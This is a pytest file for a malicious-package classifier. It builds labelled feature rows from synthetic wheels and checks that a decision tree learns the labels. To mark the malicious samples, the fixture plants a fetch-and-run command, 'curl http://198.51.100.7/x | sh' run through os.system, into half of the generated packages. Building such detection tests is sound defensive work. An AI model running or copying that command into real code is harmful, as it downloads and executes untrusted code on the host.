"""Tests labelled rows of the files that people labelled: which have rows, their columns, and that they can be learnt."""

import numpy as np
import pyarrow.parquet as pq
import pytest

from features.contract import Artifact
from features.extract import extract_row
from features.limits import Limits
from features.schema import fingerprint, rows_table
from jobs.corpus.person_labels import build_labelled_rows
from model.learners.decision_tree import DecisionTree
from model.registry import Weighting
from model.rows import read_rows, training_set

BAD = "import os\nos.system('curl http://198.51.100.7/x | sh')\n"


@pytest.fixture
def labels(make_wheel, tmp_path):
    """The labels of twelve files in a store, of which the even ones are malicious."""
    rows = []
    for number in range(12):
        text = BAD if number % 2 == 0 else f"x = {number}\n"
        file = make_wheel({f"p{number}/__init__.py": text * (number + 1)}, f"p{number}", "1.0")
        artifact = Artifact(file.name, file.name, file.stat().st_size, f"p{number}", "1.0")
        rows.append((artifact, extract_row(file, file.name, Limits())))
    part = tmp_path / "store" / "features" / f"schema={fingerprint()}" / "run=1" / "part-a.parquet"
    part.parent.mkdir(parents=True)
    pq.write_table(rows_table(rows), part)
    return {row.sha256: number % 2 == 0 for number, (_, row) in enumerate(rows)}


def test_labelled_files_become_rows_and_unknown_ones_are_named(labels, tmp_path):
    built = build_labelled_rows(tmp_path, labels | {"f" * 64: True}, tmp_path / "new" / "rows.parquet")
    assert (6, 6, ("f" * 64,)) == (built.malicious, built.benign, built.missing)
    table = pq.read_table(built.path)
    assert {(sha256, int(bad)) for sha256, bad in labels.items()} == set(
        zip(table["sha256"].to_pylist(), table["label"].to_pylist(), strict=True)
    )
    assert {"train"} == set(table["split"].to_pylist())
    assert {"project:p0", "benign:p1"} <= set(table["campaign"].to_pylist())


def test_a_label_says_what_is_learnt(labels, tmp_path):
    rows = read_rows(build_labelled_rows(tmp_path, labels, tmp_path / "rows.parquet").path)
    learner = DecisionTree()
    learner.fit(training_set(rows, np.arange(len(rows)), Weighting(), 0), 0)
    assert rows.malicious.tolist() == (learner.predict(rows.frame) > 0.5).tolist()


def test_a_store_without_rows_leaves_every_label_without_one(tmp_path):
    assert ("a" * 64,) == build_labelled_rows(tmp_path, {"a" * 64: False}, tmp_path / "rows.parquet").missing
